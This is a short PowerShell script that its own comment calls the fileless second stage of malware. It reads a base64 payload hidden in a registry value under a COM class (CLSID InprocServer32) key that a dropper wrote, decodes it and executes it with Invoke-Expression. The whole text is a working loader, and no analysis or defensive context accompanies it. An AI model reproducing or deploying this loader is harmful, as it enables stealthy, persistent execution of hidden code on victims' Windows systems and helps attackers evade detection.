# fileless: the second stage lives in a registry value written by the dropper
$key = 'HKCU:\Software\Classes\CLSID\{2781761E-28E0-4109-99FE-B9D127C57AFE}\InprocServer32'
$blob = (Get-ItemProperty -Path $key -Name 'Data').Data
if (-not $blob) { exit }

$bytes = [System.Convert]::FromBase64String($blob)
$text = [System.Text.Encoding]::Unicode.GetString($bytes)
Invoke-Expression $text
